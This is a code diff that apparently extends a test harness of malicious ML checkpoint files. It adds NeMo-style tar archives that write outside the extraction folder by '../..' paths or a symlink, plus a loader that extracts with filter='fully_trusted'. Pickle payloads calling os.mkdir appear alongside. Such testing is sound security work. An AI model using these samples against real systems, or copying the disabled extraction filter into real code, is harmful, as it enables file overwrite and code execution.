@@ -26,6 +26,7 @@ LOADERS = {
                  "module, name = it.pop('_instantiator').rsplit('.', 1); getattr(__import__(module, fromlist=[name]), name)(*it.values())",
     "mmengine": "import sys, torch; exec(torch.load(sys.argv[1], weights_only=True)['message_hub']['runtime_info']['cfg'])",
     "parts": "import os, sys, torch.distributed.checkpoint.format_utils as f; f.dcp_to_torch_save(sys.argv[1], os.devnull)",
+    "unpack": "import os, sys, tarfile; os.makedirs('a/b'); tarfile.open(sys.argv[1]).extractall('a/b', filter='fully_trusted')",
     "package": "import sys, torch.package as p; p.PackageImporter(sys.argv[1]).load_pickle('model', 'data.pkl')",
 }
 
@@ -111,8 +112,23 @@ def pickled(*keys, **values):
     return archive({"data.pkl": pickle.dumps(values, 2), "version": b"3\n"})
 
 
+def leading_out(linked):
+    """What NeMo unpacks: a file outside of the folder, by its name or through a link."""
+    made = BytesIO()
+    with tarfile.open(fileobj=made, mode="w") as tar:
+        if linked:
+            link = tarfile.TarInfo("x")
+            link.type, link.linkname = tarfile.SYMTYPE, "../.."
+            tar.addfile(link)
+        for name in ("x/ran" if linked else "../../ran", "model_config.yaml"):
+            tar.addfile(tarfile.TarInfo(name))
+    return made.getvalue()
+
+
 # name: (loader, bytes)
 ATTACKS = {
+    "leading_out.nemo": ("unpack", leading_out(False)),
+    "linked_out.nemo": ("unpack", leading_out(True)),
     "extra_state.pt": ("extra state", extra_state(5)),
     "extra_state.safetensors": ("safetensors", safetensors(PAYLOAD)),
     "instantiator.ckpt": ("lightning", pickled("hyper_parameters", _instantiator="os.mkdir", path="ran")),
